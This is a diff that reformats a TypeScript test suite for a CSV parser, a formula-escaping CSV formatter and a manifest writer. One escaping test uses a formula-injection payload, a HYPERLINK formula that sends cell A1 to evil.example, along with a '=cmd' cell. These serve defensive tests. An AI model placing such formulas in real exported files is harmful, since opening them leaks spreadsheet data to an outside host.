@@ -10,9 +10,30 @@ const fields = (text: string) => parseCsv(text).map((record) => record.fields);
 
 describe('parseCsv', () => {
   const cases: [string, string, string[][]][] = [
-    ['plain LF', 'a,b\n1,2\n', [['a', 'b'], ['1', '2']]],
-    ['CRLF, no final line break', 'a,b\r\n1,2', [['a', 'b'], ['1', '2']]],
-    ['old Mac CR', 'a,b\r1,2\r', [['a', 'b'], ['1', '2']]],
+    [
+      'plain LF',
+      'a,b\n1,2\n',
+      [
+        ['a', 'b'],
+        ['1', '2'],
+      ],
+    ],
+    [
+      'CRLF, no final line break',
+      'a,b\r\n1,2',
+      [
+        ['a', 'b'],
+        ['1', '2'],
+      ],
+    ],
+    [
+      'old Mac CR',
+      'a,b\r1,2\r',
+      [
+        ['a', 'b'],
+        ['1', '2'],
+      ],
+    ],
     ['empty fields', ',a,,\n', [['', 'a', '', '']]],
     ['quoted comma', '"a,b",c\n', [['a,b', 'c']]],
     ['doubled quotes', '"say ""hi""",x\n', [['say "hi"', 'x']]],
@@ -20,7 +41,14 @@ describe('parseCsv', () => {
     ['an empty quoted field is a record', '""\n', [['']]],
     ['quote inside an unquoted field is a character', 'a"b,c\n', [['a"b', 'c']]],
     ['blank lines skipped', 'a\n\n\r\nb\n', [['a'], ['b']]],
-    ['Korean', '이름,채널\n강남점,@브랜드\n', [['이름', '채널'], ['강남점', '@브랜드']]],
+    [
+      'Korean',
+      '이름,채널\n강남점,@브랜드\n',
+      [
+        ['이름', '채널'],
+        ['강남점', '@브랜드'],
+      ],
+    ],
     ['spaces kept', ' a , b \n', [[' a ', ' b ']]],
   ];
   for (const [name, text, expected] of cases) {
@@ -72,7 +100,11 @@ describe('formatCsv', () => {
       fc.property(fc.array(fc.tuple(fc.constant('id'), field), { minLength: 1, maxLength: 6 }), (records) => {
         const text = formatCsv(records);
         const lines = text.split(/\r\n|\r|\n/);
-        for (const { line, fields: [first] } of parseCsv(text)) assert.equal(lines[line - 1]!.startsWith(first!), true);
+        for (const {
+          line,
+          fields: [first],
+        } of parseCsv(text))
+          assert.equal(lines[line - 1]!.startsWith(first!), true);
       }),
     );
   });
@@ -87,9 +119,17 @@ describe('formatCsv with formulasAsText', () => {
     ['as text: starts with @', '@SUM(A1)', `"'@SUM(A1)"`],
     ['as text: starts with a tab', '\t=1+1', `"'\t=1+1"`],
     ['as text: starts with a carriage return', '\r=1+1', `"'\r=1+1"`],
-    ['as text: a formula with quotes and commas', '=HYPERLINK("https://evil.example/?"&A1,"a, b")', `"'=HYPERLINK(""https://evil.example/?""&A1,""a, b"")"`],
+    [
+      'as text: a formula with quotes and commas',
+      '=HYPERLINK("https://evil.example/?"&A1,"a, b")',
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""a, b"")"`,
+    ],
     ['as is: formula characters after the start', 'p=a;c=-b+c@d', 'p=a;c=-b+c@d'],
-    ['as is: a URL', 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da', 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da'],
+    [
+      'as is: a URL',
+      'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da',
+      'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da',
+    ],
     ['marked once more: a leading quote mark before a formula, so it reads back with its mark', "'=1", `"''=1"`],
     ['as is: a leading quote mark before plain text', "'plain", "'plain"],
     ['as is: empty', '', ''],
@@ -121,21 +161,33 @@ describe('formatManifest', () => {
   };
   // The settings columns a reprint reads back, blank here.
   const settings = ','.repeat(19);
-  const header = '\uFEFFline,name,file,format,url,extra,shortened,dropped,channel,placement,campaign,source,page,bot,event,endpoint,template,size,dpi,px,ecc,margin,dark,light,bleed,label,caption\r\n';
+  const header =
+    '\uFEFFline,name,file,format,url,extra,shortened,dropped,channel,placement,campaign,source,page,bot,event,endpoint,template,size,dpi,px,ecc,margin,dark,light,bleed,label,caption\r\n';
   const cases: [string, ManifestEntry, string][] = [
-    [
-      'formulas in every cell',
-      entry,
-      header + `2,"'=cmd","'+x.svg",svg,"'@SUM(A1)","'-1+1","'=a",${settings}\r\n`,
-    ],
+    ['formulas in every cell', entry, header + `2,"'=cmd","'+x.svg",svg,"'@SUM(A1)","'-1+1","'=a",${settings}\r\n`],
     [
       'an ordinary row',
-      { ...entry, name: 'poster_a', file: 'poster_a.svg', url: 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a', extra: 'p=-a', shortened: [] },
+      {
+        ...entry,
+        name: 'poster_a',
+        file: 'poster_a.svg',
+        url: 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a',
+        extra: 'p=-a',
+        shortened: [],
+      },
       header + `2,poster_a,poster_a.svg,svg,https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a,p=-a,,${settings}\r\n`,
     ],
     [
       'the settings a reprint reads back, a channel written as text',
-      { ...entry, name: 'poster_a', file: 'poster_a.svg', url: 'u', extra: '', shortened: [], settings: { channel: '@brand', placement: 'poster_a', bleed: '3mm' } },
+      {
+        ...entry,
+        name: 'poster_a',
+        file: 'poster_a.svg',
+        url: 'u',
+        extra: '',
+        shortened: [],
+        settings: { channel: '@brand', placement: 'poster_a', bleed: '3mm' },
+      },
       header + `2,poster_a,poster_a.svg,svg,u,,,,"'@brand",poster_a,,,,,,,,,,,,,,,3mm,,\r\n`,
     ],
   ];
